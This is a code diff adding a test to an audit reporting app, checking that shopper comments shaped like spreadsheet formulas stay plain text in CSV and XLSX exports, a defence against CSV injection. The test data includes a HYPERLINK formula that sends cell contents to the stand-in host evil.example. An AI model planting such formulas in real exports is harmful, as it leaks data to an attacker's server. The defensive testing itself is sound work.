@@ -7,7 +7,7 @@ from pypdf import PdfReader
 
 from audit.db import database
 from audit.demo import ACCOUNTS, DEMO_PASSWORD, load_demo
-from audit.models import Action, Branch, Visit, VisitScore
+from audit.models import Action, Answer, Branch, Visit, VisitScore
 from conftest import csrf_from, login
 
 
@@ -145,6 +145,35 @@ def test_exports_have_a_row_per_visit_and_per_answer_and_never_name_the_shopper(
     book = openpyxl.load_workbook(io.BytesIO(client.get("/reports/export.xlsx?lang=en").data))
     assert book.sheetnames == ["visits", "answers"]
     assert book["visits"].max_row - 1 == expected
+
+
+def test_a_comment_that_starts_like_a_formula_stays_text_in_both_exports(app, demo):
+    """A shopper's comment is typed text: a spreadsheet opening the export must not run it (OWASP CSV
+    injection). The CSV prefixes an apostrophe; the XLSX stores a text cell, shown as typed."""
+    import csv
+    import openpyxl
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    with app.app_context(), database.connection_context():
+        region = Branch.get(Branch.code == "BUD-01").region_id
+        visit = (Visit.select().join(Branch).where((Branch.region == region) & (Visit.state == "approved"))
+                 .order_by(Visit.id).first())
+        answer = Answer.select().where(Answer.visit == visit).order_by(Answer.id).first()
+        Answer.update(comment=formula).where(Answer.id == answer.id).execute()
+    client = _manager(app)
+    rows = list(csv.reader(io.StringIO(client.get("/reports/export.csv?kind=answers").get_data(as_text=True))))
+    mine = [row for row in rows if row[0] == str(visit.uuid) and row[4] == answer.item_id]
+    assert [row[-1] for row in mine] == ["'" + formula]
+    assert not any(cell.startswith("=") for row in rows for cell in row)
+    book = openpyxl.load_workbook(io.BytesIO(client.get("/reports/export.xlsx").data))
+    cells = [row[-1] for row in book["answers"].iter_rows(min_row=2)
+             if row[0].value == str(visit.uuid) and row[4].value == answer.item_id]
+    assert [(cell.value, cell.data_type) for cell in cells] == [(formula, "s")]  # text, not a formula ("f")
+    # The other comments read the same in both; an empty one stays an empty cell (no stray apostrophe).
+    xlsx_comments = {row[-1].value for row in book["answers"].iter_rows(min_row=2)}
+    csv_comments = {row[-1] for row in rows[1:]}
+    assert None in xlsx_comments and "'" not in xlsx_comments
+    assert xlsx_comments == {None if text == "" else formula if text == "'" + formula else text for text in csv_comments}
 
 
 def test_an_auditors_export_names_the_shopper(app, demo):
